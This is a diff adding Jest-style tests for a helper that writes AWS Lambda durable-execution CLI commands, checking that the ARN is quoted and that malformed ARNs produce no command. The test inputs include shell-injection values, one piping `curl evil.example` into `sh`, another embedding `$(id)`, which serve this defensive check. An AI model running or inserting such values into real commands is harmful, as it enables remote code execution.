@@ -190,6 +190,28 @@ describe('advice on a durable function', () => {
     expect(advise({ name: 'InvalidParameterValueException', message })).toContain(essential);
   });
 
+  const EXECUTION =
+    'arn:aws:lambda:eu-west-1:123456789012:function:my-function:$LATEST/durable-execution/a/b';
+
+  test('has commands with the ARN in quotes, since a shell would take $LATEST for a variable', () => {
+    const advice = advise({ proof: 'ran', name: 'DeadlineExceeded', durableExecutionArn: EXECUTION });
+    expect(advice).toContain(`aws lambda get-durable-execution --durable-execution-arn '${EXECUTION}'\n`);
+    expect(advice).toMatch(/stop-durable-execution .* '[^']+'$/);
+  });
+
+  test.each([
+    `${EXECUTION}'; curl evil.example | sh; '`,
+    `${EXECUTION}\n`,
+    `${EXECUTION} $(id)`,
+    'arn:durable',
+    '',
+  ])('has no command with an ARN that is not of the form of AWS: %j', (durableExecutionArn) => {
+    const advice = advise({ proof: 'ran', name: 'DeadlineExceeded', durableExecutionArn });
+    expect(advice).not.toContain('aws lambda');
+    expect(advice).not.toContain('durable-execution-arn');
+    expect(advice).toContain('See how the execution ends in the Lambda console.');
+  });
+
   test('that goes on by itself says how to join it', () => {
     const durableExecutionArn = 'arn:durable';
     const lost = failure({ proof: 'ran', name: 'DeadlineExceeded', durableExecutionArn });
